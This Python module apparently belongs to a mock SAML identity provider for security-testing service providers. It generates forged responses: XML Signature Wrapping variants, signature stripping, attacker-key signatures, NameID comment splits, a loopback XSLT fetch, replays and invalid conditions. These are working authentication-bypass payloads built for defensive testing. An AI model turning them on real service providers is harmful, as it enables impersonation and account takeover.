"""The faults themselves, registered into `mock_idp.faults.REGISTRY` on import.

Each fault names the catalogue checks it serves (``XSW-03``), spec clauses and CVEs in `refs`.
Parameterised faults are factories: ``faults.get("clock-skew", seconds=-600)`` or the string
``"clock-skew(seconds=-600)"``.
"""
from __future__ import annotations

import copy
import secrets
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from typing import Any, Callable

from lxml import etree

from .builder import (
    DS,
    SAML,
    SAMLP,
    STATUS_AUTHN_FAILED,
    STATUS_RESPONDER,
    ResponseSpec,
    new_id,
    q,
    xml_time,
)
from .faults import Fault, FaultContext, SigningOptions, register, register_factory

EVIL_RESPONSE_ID = "_evil_response_ID"
EVIL_ASSERTION_ID = "_evil_assertion_ID"
# SAML Raider's IDs, suffixed with the original element's (fresh) ID: an SP's replay cache must not
# be what refuses the second variant of an XSW case, nor the next XSW scenario of the same run.
XSLT_NS = "http://www.w3.org/1999/XSL/Transform"
XSLT_TRANSFORM = "http://www.w3.org/TR/1999/REC-xslt-19991116"


# ----------------------------------------------------------------------------- helpers
def _iter_tag(el: etree._Element, *tags: str) -> list[etree._Element]:
    """Descendants by tag, compared as strings: nodes that libxmlsec1 created are not always found
    by lxml's tag-filtered iter()/find() (their names are not in the document's dictionary)."""
    return [c for c in el.iter() if isinstance(c.tag, str) and c.tag in tags]


def _assertion(root: etree._Element) -> etree._Element:
    a = root.find(q(SAML, "Assertion"))
    if a is None:
        raise ValueError("the response has no Assertion to change")
    return a


def _sig(el: etree._Element) -> etree._Element | None:
    tag = q(DS, "Signature")
    return next((c for c in el if c.tag == tag), None)


def _drop_sig(el: etree._Element) -> etree._Element:
    s = _sig(el)
    if s is not None:
        el.remove(s)
    return el


def _victimize(assertion: etree._Element, victim: str | None) -> None:
    """Make `assertion` speak for `victim`: NameID and every attribute value equal to the old NameID."""
    if not victim:
        return
    nid = assertion.find(f"{q(SAML, 'Subject')}/{q(SAML, 'NameID')}")
    old = nid.text if nid is not None else None
    if nid is not None:
        nid.text = victim
    if old:
        for av in assertion.iter(q(SAML, "AttributeValue")):
            if av.text == old:
                av.text = victim


def _attr_el(root: etree._Element, name: str | None) -> etree._Element:
    attrs = list(_assertion(root).iter(q(SAML, "Attribute")))
    if not attrs:
        raise ValueError("the assertion has no attributes")
    if name is None:
        return attrs[0]
    for a in attrs:
        if a.get("Name") == name:
            return a
    raise ValueError(f"the assertion has no attribute {name!r}")


def _pick_attr(
    spec: ResponseSpec,
    name: str | None,
    prefer: tuple[str, ...] = ("Email", "email", "mail"),
    where: Callable[[list[str]], bool] | None = None,
) -> str:
    attrs = spec.user.attributes
    if name is not None:
        if name not in attrs:
            raise ValueError(f"user has no attribute {name!r}")
        return name
    if where is not None:
        for k, v in attrs.items():
            if where(v):
                return k
    for p in prefer:
        if p in attrs:
            return p
    if not attrs:
        raise ValueError("user has no attributes")
    return next(iter(attrs))


def _with_attrs(spec: ResponseSpec, attrs: dict[str, list[str]]) -> ResponseSpec:
    return replace(spec, user=replace(spec.user, attributes=attrs))


def _set_signing(**kw: Any) -> Callable[[SigningOptions, FaultContext], None]:
    def apply(s: SigningOptions, ctx: FaultContext) -> None:
        for k, v in kw.items():
            setattr(s, k, v)

    return apply


def _scd(root: etree._Element) -> etree._Element:
    return next(_assertion(root).iter(q(SAML, "SubjectConfirmationData")))


def _conditions(root: etree._Element) -> etree._Element:
    return _assertion(root).find(q(SAML, "Conditions"))


def _nameid(root: etree._Element) -> etree._Element:
    return _assertion(root).find(f"{q(SAML, 'Subject')}/{q(SAML, 'NameID')}")


def _reissued_cert(ctx: FaultContext, *, expired: bool) -> Any:
    """A cert for the IdP's own key whose validity window lies in the past / the future."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.x509.oid import NameOID

    from .keys import KeyPair

    key = serialization.load_pem_private_key(ctx.idp.key.key_pem, password=None)
    now = datetime.now(timezone.utc)
    start = now - timedelta(days=400) if expired else now + timedelta(days=30)
    end = now - timedelta(days=30) if expired else now + timedelta(days=400)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, ctx.idp.entity_id[:64])])
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(start)
        .not_valid_after(end)
        .sign(key, hashes.SHA256())
    )
    return KeyPair(ctx.idp.key.key_pem, cert.public_bytes(serialization.Encoding.PEM))


# ----------------------------------------------------------------------------- SIG / KEY / ALG
register(Fault("sig-unsigned", "Neither the Response nor the Assertion is signed",
               ("SIG-01", "SAML Prof 4.1.4.5", "CVE-2020-12676"),
               signing=_set_signing(sign_response=False, sign_assertion=False)))
register(Fault("sig-response-only", "Only the Response is signed; the Assertion is not",
               ("POS-04", "SIG-03", "SAML Metadata 2.4.4 WantAssertionsSigned"),
               signing=_set_signing(sign_response=True, sign_assertion=False)))
register(Fault("sig-assertion-only", "Only the Assertion is signed; the Response is not",
               ("POS-03", "SIG-04", "SAML Prof 4.1.4.5"),
               signing=_set_signing(sign_response=False, sign_assertion=True)))


@register_factory("sig-stripped", "Every ds:Signature removed after signing (signature exclusion); NameID optionally set to a victim",
                  ("SIG-02", "CVE-2020-12676"), victim=None)
def _sig_stripped(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        for s in _iter_tag(root, q(DS, "Signature")):
            s.getparent().remove(s)
        _victimize(_assertion(root), victim)

    return Fault("", "", signed=signed)


@register_factory("sig-tampered", "NameID changed after signing, signatures left as they were",
                  ("SIG-05", "SIG-07", "SAML Prof 4.1.4.3"), victim="victim@example.com")
def _sig_tampered(victim: str) -> Fault:
    return Fault("", "", signed=lambda root, ctx: _victimize(_assertion(root), victim))


def _flip_sigvalue(root: etree._Element, ctx: FaultContext) -> None:
    import base64

    for sv in _iter_tag(root, q(DS, "SignatureValue")):
        raw = bytearray(base64.b64decode("".join((sv.text or "").split())))
        raw[-1] ^= 0x01
        sv.text = base64.b64encode(bytes(raw)).decode()


register(Fault("sig-bad-value", "One bit of every SignatureValue flipped (digests still correct)",
               ("SIG-06", "XMLDSig core validation"), signed=_flip_sigvalue))


def _empty_values(root: etree._Element, ctx: FaultContext) -> None:
    for el in _iter_tag(root, q(DS, "SignatureValue"), q(DS, "DigestValue")):
        el.text = None


register(Fault("sig-empty-values", "Every SignatureValue and DigestValue emptied",
               ("SIG-08",), signed=_empty_values))


def _other_assertion_sig(root: etree._Element, ctx: FaultContext) -> None:
    from .signing import sign

    a = _assertion(root)
    other = copy.deepcopy(a)
    _drop_sig(other)
    other.set("ID", new_id())
    _victimize(other, "someone.else@example.com")
    holder = etree.Element(q(SAMLP, "Response"), nsmap={"samlp": SAMLP, "saml": SAML})
    holder.append(other)
    s = sign(holder, other, ctx.signing.key or ctx.idp.key, algorithm=ctx.signing.algorithm, digest=ctx.signing.digest)
    own = _sig(a)
    if own is not None:
        own.addprevious(s)
        a.remove(own)
    else:
        a.find(q(SAML, "Issuer")).addnext(s)
    ctx.notes["other_assertion_id"] = other.get("ID")


register(Fault("sig-other-assertion",
               "The Assertion carries a valid IdP signature made over a different assertion (other ID, other subject); Response unsigned",
               ("SIG-11", "SAML Core 5.4.2"),
               signing=_set_signing(sign_response=False, sign_assertion=True), signed=_other_assertion_sig))


def _ref_to_response(root: etree._Element, ctx: FaultContext) -> None:
    """Replace the Assertion's signature by one whose Reference is the Response's ID."""
    from .signing import sign

    a = _assertion(root)
    own = _sig(a)
    resp_sig = sign(root, root, ctx.signing.key or ctx.idp.key)
    # move the Response's signature (Reference "#<response ID>") into the Assertion
    root.remove(resp_sig)
    if own is not None:
        own.addprevious(resp_sig)
        a.remove(own)
    else:
        a.find(q(SAML, "Issuer")).addnext(resp_sig)


register(Fault("sig-reference-response",
               "The Assertion's Signature references the Response's ID instead of the Assertion's",
               ("SIG-11", "SAML Core 5.4.2"),
               signing=_set_signing(sign_response=False, sign_assertion=True), signed=_ref_to_response))


def _use_attacker(key_info: str, announce_genuine: bool = False) -> Callable[[SigningOptions, FaultContext], None]:
    def apply(s: SigningOptions, ctx: FaultContext) -> None:
        s.key = ctx.idp.attacker_key
        s.key_info = key_info
        s.key_info_cert = ctx.idp.key if announce_genuine else None

    return apply


register(Fault("sig-untrusted-cert", "Signed with a self-signed attacker key whose certificate is in KeyInfo",
               ("SIG-09", "KEY-01", "KEY-03", "CVE-2015-5372"), signing=_use_attacker("x509")))
register(Fault("sig-attacker-keyvalue", "Signed with an attacker key given as a raw RSAKeyValue in KeyInfo (no X509)",
               ("KEY-02", "CVE-2021-21239"), signing=_use_attacker("keyvalue")))
register(Fault("sig-attacker-key-genuine-cert", "Signed with an attacker key while KeyInfo carries the genuine IdP certificate",
               ("KEY-04",), signing=_use_attacker("x509", announce_genuine=True)))
register(Fault("sig-no-keyinfo", "Signatures carry no KeyInfo (the SP must use the IdP's metadata key)",
               ("KEY-01", "OWASP SAML: ignore KeyInfo"), signing=_set_signing(key_info="none")))


def _expired_cert(expired: bool) -> Callable[[SigningOptions, FaultContext], None]:
    def apply(s: SigningOptions, ctx: FaultContext) -> None:
        s.key = _reissued_cert(ctx, expired=expired)

    return apply


register(Fault("cert-expired", "KeyInfo certificate (same IdP key) is expired; the signature still verifies with the trusted key",
               ("KEY-09",), signing=_expired_cert(True)))
register(Fault("cert-not-yet-valid", "KeyInfo certificate (same IdP key) is not valid yet; the signature still verifies",
               ("KEY-09",), signing=_expired_cert(False)))
register(Fault("alg-rsa-sha1", "RSA-SHA1 signatures with SHA-1 digests",
               ("ALG-02", "ALG-03", "SAML2Int SDP-ALG01"), signing=_set_signing(algorithm="rsa-sha1", digest="sha1")))
register(Fault("alg-sha1-digest", "SHA-1 DigestMethod under an RSA-SHA256 signature",
               ("ALG-03",), signing=_set_signing(algorithm="rsa-sha256", digest="sha1")))


def _xslt(root: etree._Element, ctx: FaultContext) -> None:
    url = ctx.idp.oob_url(ctx.notes.setdefault("oob_token", secrets.token_hex(8)), "xslt")
    ctx.notes["oob_url"] = url
    target = _sig(_assertion(root)) if root.find(q(SAML, "Assertion")) is not None else None
    if target is None:
        target = _sig(root)
    if target is None:
        raise ValueError("xslt-transform needs a signature (sign the assertion or the response)")
    transforms = _iter_tag(target, q(DS, "Transforms"))[0]
    t = etree.SubElement(transforms, q(DS, "Transform"), Algorithm=XSLT_TRANSFORM)
    ss = etree.SubElement(t, q(XSLT_NS, "stylesheet"), nsmap={"xsl": XSLT_NS}, version="1.0")
    tpl = etree.SubElement(ss, q(XSLT_NS, "template"), match="/")
    etree.SubElement(tpl, q(XSLT_NS, "copy-of"), select=f"document('{url}')")


register(Fault("xslt-transform",
               "An XSLT Transform in the signature's Reference that fetches a loopback URL the IdP watches",
               ("XML-08", "XML-10"), signed=_xslt))


# ----------------------------------------------------------------------------- XSW (SAML Raider's eight)
def _xsw_response(before_sig: bool) -> Callable[[str | None], Fault]:
    def make(victim: str | None) -> Fault:
        def signed(root: etree._Element, ctx: FaultContext) -> None:
            sig = _sig(root)
            if sig is None:
                raise ValueError("XSW1/XSW2 need a signed Response")
            clone = _drop_sig(copy.deepcopy(root))
            if before_sig:
                sig.addprevious(clone)
            else:
                sig.append(clone)
            root.set("ID", EVIL_RESPONSE_ID + root.get("ID", ""))
            a = root.find(q(SAML, "Assertion"))
            if a is not None:
                _victimize(a, victim)

        return Fault("", "", signing=_set_signing(sign_response=True, sign_assertion=False), signed=signed)

    return make


def _assertion_signed() -> Callable[[SigningOptions, FaultContext], None]:
    return _set_signing(sign_response=False, sign_assertion=True)


def _xsw3(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        a = _assertion(root)
        evil = _drop_sig(copy.deepcopy(a))
        evil.set("ID", EVIL_ASSERTION_ID + a.get("ID", ""))
        _victimize(evil, victim)
        a.addprevious(evil)

    return Fault("", "", signing=_assertion_signed(), signed=signed)


def _xsw4(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        a = _assertion(root)
        evil = _drop_sig(copy.deepcopy(a))
        evil.set("ID", EVIL_ASSERTION_ID + a.get("ID", ""))
        _victimize(evil, victim)
        root.append(evil)
        evil.append(a)  # moves the signed original inside the evil copy

    return Fault("", "", signing=_assertion_signed(), signed=signed)


def _xsw5_6(inside_sig: bool) -> Callable[[str | None], Fault]:
    def make(victim: str | None) -> Fault:
        def signed(root: etree._Element, ctx: FaultContext) -> None:
            a = _assertion(root)
            copy_ = _drop_sig(copy.deepcopy(a))
            a.set("ID", EVIL_ASSERTION_ID + a.get("ID", ""))
            _victimize(a, victim)
            if inside_sig:
                _sig(a).append(copy_)
            else:
                root.append(copy_)

        return Fault("", "", signing=_assertion_signed(), signed=signed)

    return make


def _xsw7(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        a = _assertion(root)
        ext = etree.Element(q(SAMLP, "Extensions"))
        evil = _drop_sig(copy.deepcopy(a))
        _victimize(evil, victim)
        ext.append(evil)
        a.addprevious(ext)

    return Fault("", "", signing=_assertion_signed(), signed=signed)


def _xsw8(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        a = _assertion(root)
        original = _drop_sig(copy.deepcopy(a))
        _victimize(a, victim)
        obj = etree.SubElement(_sig(a), q(DS, "Object"))
        obj.append(original)

    return Fault("", "", signing=_assertion_signed(), signed=signed)


_XSW = {
    1: (_xsw_response(False), "Clone of the signed Response (no Signature) inside the Response's ds:Signature; outer Response renamed _evil_response_ID"),
    2: (_xsw_response(True), "Clone of the signed Response (no Signature) just before the Response's ds:Signature; outer Response renamed _evil_response_ID"),
    3: (_xsw3, "Unsigned evil Assertion copy (ID _evil_assertion_ID) inserted before the signed Assertion"),
    4: (_xsw4, "Unsigned evil Assertion copy appended to the Response with the signed Assertion moved inside it"),
    5: (_xsw5_6(False), "Signed Assertion renamed _evil_assertion_ID in place (keeps its Signature); unsigned original copy appended to the Response"),
    6: (_xsw5_6(True), "Signed Assertion renamed _evil_assertion_ID in place; unsigned original copy placed inside its ds:Signature"),
    7: (_xsw7, "samlp:Extensions holding an unsigned Assertion copy (same ID) inserted before the signed Assertion"),
    8: (_xsw8, "Signed Assertion edited in place (same ID); unsigned original copy in a new ds:Object inside its ds:Signature"),
}
for _n, (_make, _desc) in _XSW.items():
    register_factory(
        f"xsw-{_n:02d}", _desc + " (victim: NameID of the evil copy; none = unchanged values)",
        (f"XSW-{_n:02d}", f"SAML Raider applyXSW{_n}", "Somorovsky et al. 2012, On Breaking SAML"),
        victim=None,
    )(_make)


@register_factory("two-assertions", "A second, unsigned Assertion (ID + '_attack', optional victim NameID) appended after the signed one",
                  ("XSW-11", "XSW-13", "MAS-02", "CVE-2022-41912"), victim=None)
def _two_assertions(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        a = _assertion(root)
        b = _drop_sig(copy.deepcopy(a))
        b.set("ID", a.get("ID") + "_attack")
        _victimize(b, victim)
        a.addnext(b)

    return Fault("", "", signing=_assertion_signed(), signed=signed)


# ----------------------------------------------------------------------------- CMT: comments / text nodes
def _split_point(text: str) -> int:
    i = text.rfind(".")
    return i if i > 0 else max(1, len(text) // 2)


@register_factory("nameid-comment",
                  "An XML comment inside NameID, inserted before signing so the signature stays valid (Duo 2018); "
                  "with before/after the NameID becomes before<!---->after",
                  ("CMT-01", "CVE-2017-11427", "CVE-2017-11428", "CVE-2018-0489"), before=None, after=None)
def _nameid_comment(before: str | None, after: str | None) -> Fault:
    def tree(root: etree._Element, ctx: FaultContext) -> None:
        nid = _nameid(root)
        text = nid.text or ""
        b, a = (before or "", after or "") if (before or after) else (text[: _split_point(text)], text[_split_point(text):])
        nid.text = b
        c = etree.Comment("")
        c.tail = a
        nid.append(c)
        ctx.notes["nameid_parts"] = (b, a)

    return Fault("", "", tree=tree)


@register_factory("attr-comment", "An XML comment inside every value of one attribute, before signing (signature valid)",
                  ("CMT-02",), name=None)
def _attr_comment(name: str | None) -> Fault:
    def tree(root: etree._Element, ctx: FaultContext) -> None:
        attr = _attr_el(root, name or _pick_attr(ctx.spec, None))
        for av in attr.findall(q(SAML, "AttributeValue")):
            text = av.text or ""
            i = _split_point(text)
            av.text = text[:i]
            c = etree.Comment("")
            c.tail = text[i:]
            av.append(c)

    return Fault("", "", tree=tree)


def _cdata_split(xml: bytes, ctx: FaultContext) -> bytes:
    nid = ctx.spec.user.name_id.encode()
    import html

    esc = html.escape(ctx.spec.user.name_id, quote=False).encode()
    i = _split_point(ctx.spec.user.name_id)
    head = html.escape(ctx.spec.user.name_id[:i], quote=False).encode()
    tail = ctx.spec.user.name_id[i:].encode()
    if b"]]>" in tail:
        raise ValueError("NameID contains ]]>")
    needle = b">" + esc + b"</saml:NameID>"
    if needle not in xml:
        raise ValueError("NameID text not found for the CDATA split")
    del nid
    return xml.replace(needle, b">" + head + b"<![CDATA[" + tail + b"]]></saml:NameID>", 1)


register(Fault("nameid-cdata-split",
               "NameID text split into a text node and a CDATA section (c14n merges them, so the signature stays valid)",
               ("CMT-04",), bytes_=_cdata_split, stage_override="pre-sign"))


def _pi_splice(root: etree._Element, ctx: FaultContext) -> None:
    nid = _nameid(root)
    text = nid.text or ""
    i = text.find("@") if "@" in text else len(text) // 2
    nid.text = None
    pi = etree.ProcessingInstruction("p", text[:i])
    pi.tail = text[i:]
    nid.append(pi)


register(Fault("nameid-pi-splice",
               "Part of the signed NameID moved into a processing instruction after signing (a correct c14n breaks the digest)",
               ("CMT-03",), signed=_pi_splice))


# ----------------------------------------------------------------------------- TIME
@register_factory("clock-skew", "The IdP's clock is off by N seconds (every instant shifted; negative = behind)",
                  ("POS-07", "TIME-01", "TIME-02", "SAML2Int SDP-G01"), seconds=300)
def _clock_skew(seconds: int) -> Fault:
    return Fault("", "", spec=lambda s, ctx: replace(s, now=s.now + timedelta(seconds=int(seconds))))


def _set_time(where: str, attr: str, delta_s: int | None) -> Callable[[etree._Element, FaultContext], None]:
    def tree(root: etree._Element, ctx: FaultContext) -> None:
        el = _conditions(root) if where == "conditions" else _scd(root)
        if delta_s is None:
            el.attrib.pop(attr, None)
        else:
            el.set(attr, xml_time(ctx.spec.now + timedelta(seconds=delta_s)))

    return tree


def _shift_window(end: bool, delta_s: int) -> Callable[[etree._Element, FaultContext], None]:
    """Move the whole Conditions window so that NotOnOrAfter (end) or NotBefore (start) lands
    `delta_s` seconds from now, keeping its length: one fault (expired / not yet valid), not also
    an inverted window."""

    def tree(root: etree._Element, ctx: FaultContext) -> None:
        el = _conditions(root)
        nb, noa = el.get("NotBefore"), el.get("NotOnOrAfter")
        length = (_parse_time(noa) - _parse_time(nb)) if (nb and noa) else timedelta(seconds=ctx.spec.lifetime)
        if end:
            new_end = ctx.spec.now + timedelta(seconds=delta_s)
            el.set("NotOnOrAfter", xml_time(new_end))
            if nb:
                el.set("NotBefore", xml_time(new_end - length))
        else:
            new_start = ctx.spec.now + timedelta(seconds=delta_s)
            el.set("NotBefore", xml_time(new_start))
            if noa:
                el.set("NotOnOrAfter", xml_time(new_start + length))

    return tree


def _parse_time(text: str) -> datetime:
    return datetime.strptime(text[:19], "%Y-%m-%dT%H:%M:%S").replace(tzinfo=timezone.utc)


@register_factory("conditions-expired", "Conditions window moved so NotOnOrAfter lies N seconds in the past",
                  ("TIME-02", "SAML Core 2.5.1.2"), seconds=600)
def _cond_expired(seconds: int) -> Fault:
    return Fault("", "", tree=_shift_window(True, -int(seconds)))


@register_factory("conditions-not-yet-valid", "Conditions window moved so NotBefore lies N seconds in the future",
                  ("TIME-01", "SAML Core 2.5.1.2"), seconds=600)
def _cond_future(seconds: int) -> Fault:
    return Fault("", "", tree=_shift_window(False, int(seconds)))


@register_factory("scd-expired", "Bearer SubjectConfirmationData NotOnOrAfter lies N seconds in the past",
                  ("TIME-03", "SAML Prof 4.1.4.3"), seconds=600)
def _scd_expired(seconds: int) -> Fault:
    return Fault("", "", tree=_set_time("scd", "NotOnOrAfter", -int(seconds)))


@register_factory("scd-not-yet-valid", "Bearer SubjectConfirmationData carries a NotBefore N seconds in the future",
                  ("TIME-05", "SAML Prof 4.1.4.2"), seconds=600)
def _scd_future(seconds: int) -> Fault:
    return Fault("", "", tree=_set_time("scd", "NotBefore", int(seconds)))


register(Fault("scd-no-notonorafter", "Bearer SubjectConfirmationData without NotOnOrAfter",
               ("TIME-04", "SAML Prof 4.1.4.2"), tree=_set_time("scd", "NotOnOrAfter", None)))


def _inverted(root: etree._Element, ctx: FaultContext) -> None:
    c = _conditions(root)
    nb, na = c.get("NotBefore"), c.get("NotOnOrAfter")
    c.set("NotBefore", na)
    c.set("NotOnOrAfter", nb)


register(Fault("conditions-inverted", "Conditions NotBefore and NotOnOrAfter swapped (empty window)",
               ("TIME-06", "SAML Core 2.5.1.2"), tree=_inverted))


def _no_conditions(root: etree._Element, ctx: FaultContext) -> None:
    a = _assertion(root)
    a.remove(a.find(q(SAML, "Conditions")))


register(Fault("conditions-missing", "Assertion without Conditions", ("TIME-10", "SAML Prof 4.1.4.2"), tree=_no_conditions))


@register_factory("long-lived", "Assertion issued N days ago and valid for 2N days (old IssueInstant, far NotOnOrAfter)",
                  ("TIME-08",), days=29)
def _long_lived(days: int) -> Fault:
    return Fault("", "", spec=lambda s, ctx: replace(
        s, now=s.now - timedelta(days=days), lifetime=int(timedelta(days=2 * days).total_seconds()),
        scd_lifetime=int(timedelta(days=2 * days).total_seconds())))


# ----------------------------------------------------------------------------- AUD / DST / IRT / ISS
@register_factory("audience-wrong", "Audience is another SP's entityID", ("AUD-01", "AUD-05", "SAML Core 2.5.1.4"),
                  audience="https://other-sp.example.com/saml")
def _aud_wrong(audience: str) -> Fault:
    return Fault("", "", spec=lambda s, ctx: replace(s, audience=audience))


register(Fault("audience-missing", "Conditions without AudienceRestriction", ("AUD-02", "SAML Prof 4.1.4.2"),
               spec=lambda s, ctx: replace(s, audience=None)))


def _aud_tree(mode: str, other: str = "https://other-sp.example.com/saml") -> Callable[[etree._Element, FaultContext], None]:
    def tree(root: etree._Element, ctx: FaultContext) -> None:
        ar = _conditions(root).find(q(SAML, "AudienceRestriction"))
        aud = ar.find(q(SAML, "Audience"))
        if mode == "extra":
            extra = etree.Element(q(SAML, "Audience"))
            extra.text = other
            aud.addprevious(extra)
        elif mode == "two":
            ar2 = etree.Element(q(SAML, "AudienceRestriction"))
            etree.SubElement(ar2, q(SAML, "Audience")).text = other
            ar.addnext(ar2)
        elif mode == "empty":
            aud.text = " "

    return tree


register(Fault("audience-extra", "AudienceRestriction lists another SP first, then the right one",
               ("AUD-03", "SAML Core 2.5.1.4"), tree=_aud_tree("extra")))
register(Fault("audience-two-restrictions", "A second AudienceRestriction naming only another SP",
               ("AUD-04",), tree=_aud_tree("two")))
register(Fault("audience-empty", "Audience is whitespace only", ("AUD-06",), tree=_aud_tree("empty")))


@register_factory("destination-wrong", "Response Destination is another URL", ("DST-01", "DST-04", "SAML Core 3.2.2"),
                  url="https://other-sp.example.com/saml/acs")
def _dest_wrong(url: str) -> Fault:
    return Fault("", "", spec=lambda s, ctx: replace(s, destination=url))


register(Fault("destination-missing", "Response without Destination", ("DST-02", "SAML Bind 3.5.5.2"),
               spec=lambda s, ctx: replace(s, destination=None)))
register(Fault("destination-empty", "Response Destination=\"\"", ("DST-03",),
               spec=lambda s, ctx: replace(s, destination="")))


@register_factory("recipient-wrong", "Bearer SubjectConfirmationData Recipient is another URL",
                  ("DST-05", "SAML Prof 4.1.4.3"), url="https://other-sp.example.com/saml/acs")
def _recipient_wrong(url: str) -> Fault:
    return Fault("", "", spec=lambda s, ctx: replace(s, recipient=url))


def _drop_recipient(root: etree._Element, ctx: FaultContext) -> None:
    _scd(root).attrib.pop("Recipient", None)


register(Fault("recipient-missing", "Bearer SubjectConfirmationData without Recipient", ("DST-06", "SAML Prof 4.1.4.2"),
               tree=_drop_recipient))


def _no_bearer(root: etree._Element, ctx: FaultContext) -> None:
    sc = _scd(root).getparent()
    sc.set("Method", "urn:oasis:names:tc:SAML:2.0:cm:sender-vouches")


register(Fault("no-bearer", "SubjectConfirmation Method is sender-vouches instead of bearer", ("DST-07", "SAML Prof 4.1.4.2"),
               tree=_no_bearer))


@register_factory("in-response-to-wrong", "InResponseTo (Response and SubjectConfirmationData) is a random ID",
                  ("IRT-01", "SAML Core 3.2.2"), value=None)
def _irt_wrong(value: str | None) -> Fault:
    def spec(s: ResponseSpec, ctx: FaultContext) -> ResponseSpec:
        v = value or new_id()
        ctx.notes["in_response_to"] = v
        return replace(s, in_response_to=v, scd_in_response_to=None)

    return Fault("", "", spec=spec)


register(Fault("in-response-to-missing", "No InResponseTo anywhere (the response looks unsolicited)",
               ("IRT-05", "SAML Prof 4.1.4.2"), spec=lambda s, ctx: replace(s, in_response_to=None, scd_in_response_to=None)))
register(Fault("in-response-to-empty", "InResponseTo=\"\" on the Response and SubjectConfirmationData", ("IRT-07",),
               spec=lambda s, ctx: replace(s, in_response_to="", scd_in_response_to="")))


@register_factory("scd-in-response-to-wrong", "Only the SubjectConfirmationData InResponseTo is wrong",
                  ("IRT-02", "SAML Prof 4.1.4.3"), value=None)
def _scd_irt(value: str | None) -> Fault:
    return Fault("", "", spec=lambda s, ctx: replace(s, scd_in_response_to=value or new_id()))


@register_factory("issuer-wrong", "Response and Assertion Issuer are another IdP's entityID (signature by the real IdP key)",
                  ("ISS-01", "ISS-07", "SAML Prof 4.1.4.2"), issuer="https://other-idp.example.com/idp")
def _issuer_wrong(issuer: str) -> Fault:
    return Fault("", "", spec=lambda s, ctx: replace(s, issuer=issuer, assertion_issuer=issuer))


@register_factory("assertion-issuer-mismatch", "Assertion Issuer differs from the Response Issuer",
                  ("ISS-02",), issuer="https://other-idp.example.com/idp")
def _aiss(issuer: str) -> Fault:
    return Fault("", "", spec=lambda s, ctx: replace(s, assertion_issuer=issuer))


@register_factory("response-issuer-mismatch", "Only the Response's Issuer differs (default: a near miss of the "
                  "IdP's entityID); the Assertion's Issuer stays right",
                  ("ISS-02", "ISS-07"), issuer=None)
def _riss(issuer: str | None) -> Fault:
    return Fault("", "", spec=lambda s, ctx: replace(s, issuer=issuer or s.issuer + ".evil",
                                                    assertion_issuer=s.assertion_issuer or s.issuer))


def _no_assertion_issuer(root: etree._Element, ctx: FaultContext) -> None:
    a = _assertion(root)
    a.remove(a.find(q(SAML, "Issuer")))


register(Fault("assertion-issuer-missing", "Assertion without Issuer", ("ISS-03", "SAML Core 2.3.3"), tree=_no_assertion_issuer))


# ----------------------------------------------------------------------------- RPL
@register_factory("replay", "Send again, byte for byte, an earlier response (by response_id; default the last one for this SP)",
                  ("RPL-01", "RPL-05", "SAML Prof 4.1.4.5"), response_id=None)
def _replay(response_id: str | None) -> Fault:
    def b(xml: bytes, ctx: FaultContext) -> bytes:
        idp = ctx.idp
        if response_id:
            old = idp.replay(response_id)
        else:
            sp_id = ctx.sp.entity_id if ctx.sp else None
            earlier = [r for r in idp.issued if r.sp_entity_id == sp_id]
            if not earlier:
                raise ValueError("replay: nothing was issued to this SP yet")
            old = earlier[-1]
        ctx.notes["replayed_response_id"] = old.response_id
        return old.xml

    return Fault("", "", bytes_=b)


@register_factory("assertion-id-reuse", "A fresh Response re-using an earlier Assertion ID (default: the last one sent to this SP)",
                  ("RPL-02",), assertion_id=None)
def _aid_reuse(assertion_id: str | None) -> Fault:
    def spec(s: ResponseSpec, ctx: FaultContext) -> ResponseSpec:
        aid = assertion_id
        if not aid:
            sp_id = ctx.sp.entity_id if ctx.sp else None
            earlier = [r for r in ctx.idp.issued if r.sp_entity_id == sp_id and r.assertion_id]
            if not earlier:
                raise ValueError("assertion-id-reuse: nothing was issued to this SP yet")
            aid = earlier[-1].assertion_id
        return replace(s, assertion_id=aid)

    return Fault("", "", spec=spec)


# ----------------------------------------------------------------------------- STA / MAS
@register_factory("status", "Non-Success status (top-level code + second-level code), no assertion unless with_assertion",
                  ("POS-10", "STA-01", "STA-02", "SAML Core 3.2.2.2"),
                  code=STATUS_RESPONDER, subcode=STATUS_AUTHN_FAILED, with_assertion=False)
def _status(code: str, subcode: str | None, with_assertion: bool) -> Fault:
    return Fault("", "", spec=lambda s, ctx: replace(
        s, status_code=code, status_subcode=subcode or None, include_assertion=bool(with_assertion)))


register(Fault("zero-assertions", "Status Success but no Assertion", ("MAS-01",),
               spec=lambda s, ctx: replace(s, include_assertion=False)))


def _remove_child(tag: str) -> Callable[[etree._Element, FaultContext], None]:
    def tree(root: etree._Element, ctx: FaultContext) -> None:
        a = _assertion(root)
        for el in a.findall(tag):
            a.remove(el)

    return tree


register(Fault("no-authn-statement", "Assertion without AuthnStatement", ("MAS-04",), tree=_remove_child(q(SAML, "AuthnStatement"))))
register(Fault("subject-missing", "Assertion without Subject", ("MAS-06",), tree=_remove_child(q(SAML, "Subject"))))
register(Fault("attribute-statement-missing", "Assertion without AttributeStatement", ("ATTR-02",),
               tree=_remove_child(q(SAML, "AttributeStatement"))))


# ----------------------------------------------------------------------------- NID
register(Fault("nameid-missing", "Subject without NameID", ("NID-01",),
               tree=lambda root, ctx: _nameid(root).getparent().remove(_nameid(root))))


def _nameid_empty(root: etree._Element, ctx: FaultContext) -> None:
    _nameid(root).text = None


register(Fault("nameid-empty", "Empty NameID element", ("NID-02",), tree=_nameid_empty))


@register_factory("nameid-format", "NameID Format changed (email, persistent, transient, unspecified or a URN)",
                  ("NID-03",), format="persistent")
def _nameid_format(format: str) -> Fault:
    from .users import NAMEID_FORMATS

    fmt = NAMEID_FORMATS.get(format, format)
    return Fault("", "", spec=lambda s, ctx: replace(s, user=replace(s.user, name_id_format=fmt)))


